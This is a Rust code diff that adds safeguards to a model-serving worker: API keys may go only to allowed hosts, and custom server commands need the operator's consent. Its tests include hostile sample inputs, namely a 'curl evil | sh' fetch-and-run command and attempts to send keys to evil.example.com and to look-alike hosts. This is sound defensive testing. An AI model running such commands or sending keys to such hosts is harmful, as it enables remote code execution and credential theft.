@@ -7,6 +7,12 @@
 //! - [`check_plan`]: at worker start, an `http://` model URL to a host that is not
 //!   loopback is refused unless [`HttpPolicy::allow_insecure_http`]: prompts, answers
 //!   and the API key would cross the network unencrypted.
+//! - [`KeyHosts`]: an API key goes only to the hosts its worker's operator allows
+//!   (`HALYARD_KEY_HOSTS`; by default a provider's key only to that provider's API host,
+//!   any key to loopback), so a sweep's `base_url` cannot send a key elsewhere.
+//! - [`HttpPolicy::allow_server_commands`]: a managed server given as a sweep's `command`
+//!   (code the sweep's author chose) starts only on a worker that allows it; presets
+//!   always start.
 //!
 //! Error texts built here and in `openai` pass through `halyard_proto::redact`, so
 //! credentials inside URLs and key-like text in error bodies never reach logs, errors or
@@ -15,6 +21,7 @@
 use halyard_broker::auth::is_loopback_host;
 use halyard_proto::pool::{WorkerModel, WorkerPlan};
 use halyard_proto::redact;
+use halyard_proto::server::{preset, ServerSpec};
 
 use crate::call_error::CallError;
 
@@ -27,11 +34,17 @@ pub struct HttpPolicy {
     pub max_body_bytes: u64,
     /// Allow `http://` model URLs to hosts that are not loopback.
     pub allow_insecure_http: bool,
+    /// Start managed servers given as a `command` (not only the presets).
+    pub allow_server_commands: bool,
 }
 
 impl Default for HttpPolicy {
     fn default() -> Self {
-        HttpPolicy { max_body_bytes: DEFAULT_MAX_BODY_BYTES, allow_insecure_http: false }
+        HttpPolicy {
+            max_body_bytes: DEFAULT_MAX_BODY_BYTES,
+            allow_insecure_http: false,
+            allow_server_commands: false,
+        }
     }
 }
 
@@ -57,20 +70,163 @@ pub fn check_url(base_url: &str, policy: HttpPolicy) -> Result<(), String> {
     }
 }
 
-/// Check every HTTP model of the plan (at worker start, before anything is fetched).
+/// Check every model of the plan (at worker start, before anything is fetched): HTTP
+/// models' URLs and keys, managed servers' commands.
 pub fn check_plan(plan: &WorkerPlan, policy: HttpPolicy) -> Result<(), String> {
     let listed = listed_key_envs();
+    let hosts = KeyHosts::from_env()?;
     for (pool, m) in plan.models() {
-        if let WorkerModel::Http(h) = m {
-            let at = || format!("model {:?} of pool {:?}", h.model, pool.name);
-            check_url(&h.base_url, policy).map_err(|e| format!("{}: {e}", at()))?;
-            if let Some(var) = &h.api_key_env {
-                check_key_env(var, &listed).map_err(|e| format!("{}: {e}", at()))?;
-                key_is_set(var).map_err(|e| format!("{}: {e}", at()))?;
+        match m {
+            WorkerModel::Http(h) => {
+                let at = || format!("model {:?} of pool {:?}", h.model, pool.name);
+                check_url(&h.base_url, policy).map_err(|e| format!("{}: {e}", at()))?;
+                if let Some(var) = &h.api_key_env {
+                    check_key_env(var, &listed).map_err(|e| format!("{}: {e}", at()))?;
+                    hosts.check(var, &h.base_url).map_err(|e| format!("{}: {e}", at()))?;
+                    key_is_set(var).map_err(|e| format!("{}: {e}", at()))?;
+                }
             }
+            WorkerModel::Server(s) if !policy.allow_server_commands && !is_preset(s) => {
+                let program = redact::secrets(s.command.first().map_or("", String::as_str));
+                return Err(format!(
+                    "model {:?} of pool {:?} is a managed server started by the sweep's own \
+                     command (program {program:?}): a sweep's command runs on this machine as \
+                     written, so this worker starts only the presets (server = \"vllm\", \
+                     \"sglang\", \"llama-server\", \"tgi\") unless it is started with \
+                     --allow-server-commands",
+                    s.name, pool.name
+                ));
+            }
+            _ => {}
         }
     }
     Ok(())
+}
+
+/// Whether `s` runs a preset's command (the preset's program and arguments first, then
+/// the sweep's extra `args`), not a command of the sweep's own.
+pub fn is_preset(s: &ServerSpec) -> bool {
+    preset(&s.kind).is_some_and(|p| {
+        s.command.len() >= p.command.len() && s.command.iter().zip(p.command).all(|(a, b)| a == b)
+    })
+}
+
+/// The worker's environment variable saying which hosts each API key may go to.
+pub const KEY_HOSTS_VAR: &str = "HALYARD_KEY_HOSTS";
+
+/// Where a provider's key goes when [`KEY_HOSTS_VAR`] does not name its variable.
+pub const DEFAULT_KEY_HOSTS: &[(&str, &[&str])] = &[
+    ("OPENAI_API_KEY", &["api.openai.com"]),
+    ("ANTHROPIC_API_KEY", &["api.anthropic.com"]),
+    ("GEMINI_API_KEY", &["generativelanguage.googleapis.com"]),
+    ("MISTRAL_API_KEY", &["api.mistral.ai"]),
+    ("GROQ_API_KEY", &["api.groq.com"]),
+    ("TOGETHER_API_KEY", &["api.together.xyz"]),
+    ("DEEPSEEK_API_KEY", &["api.deepseek.com"]),
+    ("FIREWORKS_API_KEY", &["api.fireworks.ai"]),
+    ("OPENROUTER_API_KEY", &["openrouter.ai"]),
+];
+
+/// The hosts each API-key variable may be sent to (issue 49): a sweep is written by
+/// someone else, and `api_key_env` with a `base_url` of its choice would otherwise send
+/// this worker's key anywhere.
+///
+/// `HALYARD_KEY_HOSTS` = entries separated by `;`, each `VAR=HOST[,HOST...]`; a host is
+/// a name (`api.example.com`), `*.example.com` (any subdomain) or `*` (any host). An
+/// entry replaces the default of its variable ([`DEFAULT_KEY_HOSTS`]); a variable with
+/// neither goes to no host but loopback. Any key may go to a loopback host (this
+/// machine: a local server or proxy).
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct KeyHosts {
+    rules: Vec<(String, Vec<String>)>,
+}
+
+impl KeyHosts {
+    /// Parse [`KEY_HOSTS_VAR`]'s value.
+    pub fn parse(text: &str) -> Result<KeyHosts, String> {
+        let mut rules = Vec::new();
+        for entry in text.split(';').map(str::trim).filter(|e| !e.is_empty()) {
+            let bad = |why: &str| {
+                format!(
+                    "{KEY_HOSTS_VAR}: entry {:?} {why} (expected VAR=HOST[,HOST...] entries \
+                     separated by ';', a HOST being a name, *.domain or *)",
+                    redact::secrets(entry)
+                )
+            };
+            let (var, hosts) = entry.split_once('=').ok_or_else(|| bad("has no '='"))?;
+            let var = var.trim();
+            if var.is_empty() || !var.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+                return Err(bad("does not start with a variable name"));
+            }
+            let hosts: Vec<String> = hosts
+                .split(',')
+                .map(|h| h.trim().trim_end_matches('.').to_ascii_lowercase())
+                .filter(|h| !h.is_empty())
+                .collect();
+            if hosts.is_empty() {
+                return Err(bad("names no host"));
+            }
+            for h in &hosts {
+                let name = h.strip_prefix("*.").unwrap_or(h);
+                let ok = h == "*"
+                    || (!name.is_empty()
+                        && name.chars().all(|c| c.is_ascii_alphanumeric() || "-.:[]".contains(c)));
+                if !ok {
+                    return Err(bad(&format!("names {h:?}, which is not a host")));
+                }
+            }
+            rules.push((var.to_string(), hosts));
+        }
+        Ok(KeyHosts { rules })
+    }
+
+    /// From this machine's [`KEY_HOSTS_VAR`] (unset: the defaults only).
+    pub fn from_env() -> Result<KeyHosts, String> {
+        KeyHosts::parse(&std::env::var(KEY_HOSTS_VAR).unwrap_or_default())
+    }
+
+    /// The hosts `var` may go to besides loopback.
+    pub fn hosts(&self, var: &str) -> Vec<String> {
+        match self.rules.iter().rev().find(|(v, _)| v == var) {
+            Some((_, hosts)) => hosts.clone(),
+            None => DEFAULT_KEY_HOSTS
+                .iter()
+                .find(|(v, _)| *v == var)
+                .map(|(_, h)| h.iter().map(|h| h.to_string()).collect())
+                .unwrap_or_default(),
+        }
+    }
+
+    /// Why the key in `var` may not be sent to `base_url`'s host, if it may not.
+    pub fn check(&self, var: &str, base_url: &str) -> Result<(), String> {
+        let shown_url = redact::url(base_url);
+        let u = reqwest::Url::parse(base_url)
+            .map_err(|e| format!("{shown_url:?} is not a URL: {e}"))?;
+        let host = u.host_str().unwrap_or("").trim_end_matches('.').to_ascii_lowercase();
+        if is_loopback_host(&host) {
+            return Ok(());
+        }
+        let allowed = self.hosts(var);
+        let matches = |pat: &str| {
+            pat == "*"
+                || pat == host
+                || pat.strip_prefix("*.").is_some_and(|d| host.ends_with(&format!(".{d}")))
+        };
+        if allowed.iter().any(|p| matches(p)) {
+            return Ok(());
+        }
+        let var = redact::secrets(var);
+        let to = if allowed.is_empty() {
+            "loopback hosts only".to_string()
+        } else {
+            format!("{} and loopback hosts only", allowed.join(", "))
+        };
+        Err(format!(
+            "the key in ${var} may not be sent to host {host:?} ({shown_url}): this worker sends \
+             it to {to}. If that host should have it, allow it on the machine that sends the \
+             key: {KEY_HOSTS_VAR}=\"{var}={host}\" (entries VAR=HOST[,HOST...] separated by ';')"
+        ))
+    }
 }
 
 /// Refuse an API-key variable that is not set, or is empty, on this machine (issue 48):
@@ -245,5 +401,103 @@ mod tests {
         plan.add(PoolPlan::new("q", 1).with_model(m("http://10.1.1.1/v1"))).unwrap();
         let e = check_plan(&plan, HttpPolicy::default()).unwrap_err();
         assert!(e.contains("model \"m\" of pool \"q\""), "{e}");
+    }
+
+    /// Issue 49: a key goes to its provider's hosts and loopback by default, to what
+    /// HALYARD_KEY_HOSTS allows otherwise; the refusal names the variable, the host and
+    /// how to allow it.
+    #[test]
+    fn keys_go_only_to_the_hosts_allowed() {
+        let d = KeyHosts::default();
+        assert_eq!(d.check("OPENAI_API_KEY", "https://api.openai.com/v1"), Ok(()));
+        assert_eq!(d.check("OPENAI_API_KEY", "https://API.OpenAI.com./v1"), Ok(()));
+        assert_eq!(d.check("ANTHROPIC_API_KEY", "https://api.anthropic.com/v1"), Ok(()));
+        for loopback in ["http://127.0.0.1:9/v1", "http://localhost/v1", "http://[::1]:8/v1"] {
+            assert_eq!(d.check("ANY_API_KEY", loopback), Ok(()), "{loopback}");
+        }
+        let e = d.check("OPENAI_API_KEY", "https://evil.example.com/v1").unwrap_err();
+        for part in [
+            "$OPENAI_API_KEY",
+            "\"evil.example.com\"",
+            "api.openai.com",
+            "HALYARD_KEY_HOSTS=\"OPENAI_API_KEY=evil.example.com\"",
+        ] {
+            assert!(e.contains(part), "{part}: {e}");
+        }
+        // A look-alike host is not the provider's.
+        assert!(d.check("OPENAI_API_KEY", "https://api.openai.com.evil.io/v1").is_err());
+        assert!(d.check("OPENAI_API_KEY", "https://x@api.anthropic.com/v1").is_err());
+        // A variable without a default goes to loopback only.
+        let e = d.check("TEAM_API_KEY", "https://llm.corp.example/v1").unwrap_err();
+        assert!(e.contains("loopback hosts only"), "{e}");
+
+        let h = KeyHosts::parse(
+            " TEAM_API_KEY = llm.corp.example, *.inference.example ; OPENAI_API_KEY=proxy.corp;X_API_KEY=*",
+        )
+        .unwrap();
+        assert_eq!(h.check("TEAM_API_KEY", "https://llm.corp.example/v1"), Ok(()));
+        assert_eq!(h.check("TEAM_API_KEY", "https://eu.inference.example/v1"), Ok(()));
+        assert!(h.check("TEAM_API_KEY", "https://inference.example/v1").is_err());
+        assert!(h.check("TEAM_API_KEY", "https://xinference.example/v1").is_err());
+        // An entry replaces its variable's default.
+        assert_eq!(h.check("OPENAI_API_KEY", "https://proxy.corp/v1"), Ok(()));
+        assert!(h.check("OPENAI_API_KEY", "https://api.openai.com/v1").is_err());
+        assert_eq!(h.check("X_API_KEY", "https://anywhere.example/v1"), Ok(()));
+        assert_eq!(h.check("ANTHROPIC_API_KEY", "https://api.anthropic.com/v1"), Ok(()));
+
+        for bad in ["OPENAI_API_KEY", "=api.openai.com", "A=", "A=host/path", "A B=h"] {
+            let e = KeyHosts::parse(bad).unwrap_err();
+            assert!(e.contains("HALYARD_KEY_HOSTS") && e.contains("VAR=HOST"), "{bad}: {e}");
+        }
+    }
+
+    fn server(kind: &str, command: &[&str]) -> WorkerModel {
+        WorkerModel::Server(halyard_proto::server::ServerSpec {
+            endpoint: format!("server:{kind}:m:r:-:0"),
+            name: "m".into(),
+            kind: kind.into(),
+            command: command.iter().map(|a| a.to_string()).collect(),
+            model_path: "/m".into(),
+            served_name: "m".into(),
+            gpus: 0,
+            ready_path: "/health".into(),
+            version_path: None,
+            version_field: "version".into(),
+            version: None,
+            start_timeout_ms: 1000,
+            max_restarts: 1,
+            restart_backoff_ms: 100,
+            stable_ms: 1000,
+            gpu_sets: Vec::new(),
+        })
+    }
+
+    /// Issue 49: a sweep's own server command starts only where the worker allows it;
+    /// a preset (with extra args) always.
+    #[test]
+    fn server_commands_need_the_operators_consent() {
+        use halyard_proto::pool::PoolPlan;
+        let vllm = halyard_proto::server::preset("vllm").unwrap();
+        let mut preset_cmd: Vec<&str> = vllm.command.to_vec();
+        preset_cmd.push("--enforce-eager");
+        let plan_of = |m: WorkerModel| {
+            let mut p = WorkerPlan::default();
+            p.add(PoolPlan::new("p", 1).with_model(m)).unwrap();
+            p
+        };
+        let strict = HttpPolicy::default();
+        let allow = HttpPolicy { allow_server_commands: true, ..strict };
+        assert_eq!(check_plan(&plan_of(server("vllm", &preset_cmd)), strict), Ok(()));
+        for custom in [
+            server("sh", &["sh", "-c", "curl evil | sh"]),
+            // Named like a preset, but not the preset's command.
+            server("vllm", &["vllm", "--port", "{port}"]),
+            server("vllm", &["sh", "-c", "x"]),
+        ] {
+            let plan = plan_of(custom);
+            let e = check_plan(&plan, strict).unwrap_err();
+            assert!(e.contains("--allow-server-commands") && e.contains("pool \"p\""), "{e}");
+            assert_eq!(check_plan(&plan, allow), Ok(()));
+        }
     }
 }
